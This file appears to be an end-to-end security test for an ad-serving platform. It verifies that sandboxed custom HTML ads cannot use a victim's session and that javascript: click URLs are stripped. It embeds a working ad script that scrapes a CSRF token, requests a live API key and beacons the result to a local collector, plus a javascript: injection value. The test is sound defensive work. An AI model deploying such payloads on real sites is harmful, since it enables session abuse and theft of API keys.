/**
 * A tenant's ad markup must never act with the rights of the API's origin. Tenant A places a custom
 * HTML ad whose script reads /settings/api (for its CSRF token) and posts /settings/api/keys for a live
 * key; user B, signed in to the settings page, opens the ad's document (a link, or a popup from an ad
 * click) on the gateway's own origin and on the serving origin. Each ad document is sandboxed
 * (an opaque origin), so the script runs but gets neither the page nor a key. Also: a `click` prefix
 * that is not an http(s) URL never reaches the ad's markup.
 */
import http from 'node:http';
import path from 'node:path';
import type { Browser } from 'playwright-core';
import { as, gatewayPort } from './support/api';
import { chromiumAvailable, launchBrowser, SCREENSHOTS } from './support/browser';
import { admin, freePort } from './support/platform';
import { zoneWithCampaign } from '../../services/serving/test/serving-fixtures';

const maybe = chromiumAvailable() ? test : test.skip;
const run = async (...args: string[]) => JSON.parse((await admin(...args)).stdout);
const stamp = `${Date.now()}-${process.pid}`;
const yesterday = () => new Date(Date.now() - 86_400_000).toISOString().slice(0, 19).replace('T', ' ');

let browser: Browser;
let collector: http.Server;
let collectorPort: number;
const reports: string[] = [];

beforeAll(async () => {
  if (!chromiumAvailable()) return;
  collectorPort = await freePort();
  // Where the ad's script reports what it managed to do.
  collector = http.createServer((req, res) => {
    reports.push(decodeURIComponent((req.url ?? '').replace(/^\/r\?/, '')));
    res.writeHead(204, { 'Access-Control-Allow-Origin': '*' });
    res.end();
  });
  await new Promise<void>((r) => collector.listen(collectorPort, '127.0.0.1', () => r()));
  browser = await launchBrowser();
}, 60_000);

afterAll(async () => {
  await browser?.close();
  collector?.close();
});

/** The thief: fetches the settings page, lifts its CSRF token and asks for a live key. */
const thief = (port: number) => `<div id="ad" style="width:300px;height:250px;background:#b71c1c;color:#fff;font:20px sans-serif">A perfectly normal ad</div>
<script>
(async () => {
  let r;
  try {
    const page = await (await fetch('/settings/api', { credentials: 'include' })).text();
    const m = /name="_csrf" value="([^"]+)"/.exec(page);
    if (!m) r = 'no-csrf';
    else {
      const res = await fetch('/settings/api/keys', { method: 'POST', credentials: 'include', body: new URLSearchParams({ _csrf: m[1], name: 'stolen', mode: 'live' }) });
      const text = await res.text();
      r = 'posted:' + res.status + ':' + ((/live_[A-Za-z0-9_-]{8,}/.exec(text) || ['none'])[0]);
    }
  } catch (e) { r = 'blocked:' + e.name; }
  document.getElementById('ad').textContent = r;
  new Image().src = 'http://127.0.0.1:${port}/r?' + encodeURIComponent(self.origin + ' ' + r);
})();
</script>`;

maybe("an ad's script cannot use a signed-in user's settings session, on the API origin or the serving origin", async () => {
  // Tenant A, the attacker: a live custom HTML ad in a live zone.
  const attacker = await run('create-account', '--name', `Attacker ${stamp}`);
  const a = as(attacker.keys.live);
  const pub = await a.post('/v1/publishers', { name: 'Bait', email: 'bait@attacker.example' });
  const zone = await a.post('/v2/zones/standard', { name: 'Bait zone', width: 300, height: 250, publisher: pub.body.id });
  const adv = await a.post('/v1/advertisers', { name: 'Bait ads', email: 'ads@attacker.example' });
  const campaign = await a.post('/v2/campaigns/standard', { name: 'Bait', advertiser: adv.body.id });
  const item = await a.post('/v2/ad-items/custom-html', { name: 'Thief', width: 300, height: 250, custom_html: thief(collectorPort) });
  expect(item.status).toBe(200);
  expect((await a.post('/v2/campaign-assignments', { campaign: { id: campaign.body.id, type: 'standard_campaign' }, advertisement: { id: item.body.id, type: 'custom_html_ad_item' } })).status).toBe(200);
  const schedule = await a.post('/v2/schedules', { start_date: yesterday() });
  const placement = await a.post('/v2/placements', { zone: { id: zone.body.id, type: 'standard_zone' }, advertisement: { id: campaign.body.id, type: 'standard_campaign' }, schedule: schedule.body.id });
  expect(placement.status).toBe(200);

  // User B, the victim, signed in to the settings page.
  const email = `victim-${stamp}@isolation.example`;
  const password = `pw-victim-${stamp}`;
  const victim = await run('create-account', '--name', `Victim ${stamp}`, '--email', email, '--password', password);
  const keysBefore = (await run('list-keys', '--account', String(victim.account.id))).keys.length;
  const ctx = await browser.newContext({ ignoreHTTPSErrors: true, viewport: { width: 400, height: 320 } });
  const settings = await ctx.newPage();
  await settings.goto(`https://localhost:${gatewayPort()}/settings/api`);
  await settings.getByLabel('Email').fill(email);
  await settings.getByLabel('Password').fill(password);
  await settings.getByRole('button', { name: 'Sign in' }).click();
  await settings.getByRole('heading', { name: 'API keys' }).waitFor();

  const adQuery = `account=${attacker.account.id}&zone=${zone.body.id}&size=300x250`;
  const origins = [`https://localhost:${gatewayPort()}`, `https://localhost:${Number(process.env.GATEWAY_SERVE_PORT)}`];
  for (const [i, origin] of origins.entries()) {
    const tab = await ctx.newPage();
    let csp = '';
    // The decision data reaches serving within a second or so of the placement.
    for (let tries = 0; ; tries++) {
      reports.length = 0;
      const res = await tab.goto(`${origin}/serve/iframe?${adQuery}&rnd=${tries}`);
      expect(res!.status()).toBe(200);
      csp = res!.headers()['content-security-policy'] ?? '';
      if ((await tab.content()).includes('A perfectly normal ad') || (await tab.locator('#ad').count())) break;
      if (tries > 60) throw new Error('the ad never served');
      await new Promise((r) => setTimeout(r, 250));
    }
    for (let w = 0; w < 100 && !reports.length; w++) await new Promise((r) => setTimeout(r, 100));
    await tab.screenshot({ path: path.join(SCREENSHOTS, `ad-origin-isolation-${i}.png`) });
    // The script ran (it reported), in an opaque origin, and got nothing.
    expect(reports).toHaveLength(1);
    expect(reports[0]).toMatch(/^null blocked:/);
    expect(csp).toMatch(/(^|;)\s*sandbox\b/);
    expect(csp).not.toContain('allow-same-origin');
    await tab.close();
  }
  expect((await run('list-keys', '--account', String(victim.account.id))).keys.length).toBe(keysBefore);
  await ctx.close();
}, 90_000);

maybe('a click prefix that is not an http(s) URL never reaches the markup', async () => {
  const owner = await run('create-account', '--name', `Clicker ${stamp}`);
  const { zone } = await zoneWithCampaign(as(owner.keys.live), [1]);
  const ctx = await browser.newContext({ ignoreHTTPSErrors: true });
  const tab = await ctx.newPage();
  const hostile = encodeURIComponent(`javascript:document.title='pwned'//`);
  const base = `https://localhost:${gatewayPort()}/serve/iframe?account=${owner.account.id}&zone=${zone.id}&size=300x250`;
  for (let tries = 0; ; tries++) {
    await tab.goto(`${base}&click=${hostile}&rnd=${tries}`);
    if (await tab.locator('a').count()) break;
    if (tries > 60) throw new Error('the ad never served');
    await new Promise((r) => setTimeout(r, 250));
  }
  const href = await tab.locator('a').first().getAttribute('href');
  expect(href).not.toMatch(/^\s*javascript:/i);
  expect(href).toMatch(/^https?:\/\/.*\/serve\/click\?t=/);
  // A well-formed http(s) tracker is still put in front of the click URL.
  await tab.goto(`${base}&click=${encodeURIComponent('https://tracker.example/c?to=')}&rnd=x`);
  expect(await tab.locator('a').first().getAttribute('href')).toMatch(/^https:\/\/tracker\.example\/c\?to=https?:\/\//);
  await ctx.close();
}, 60_000);
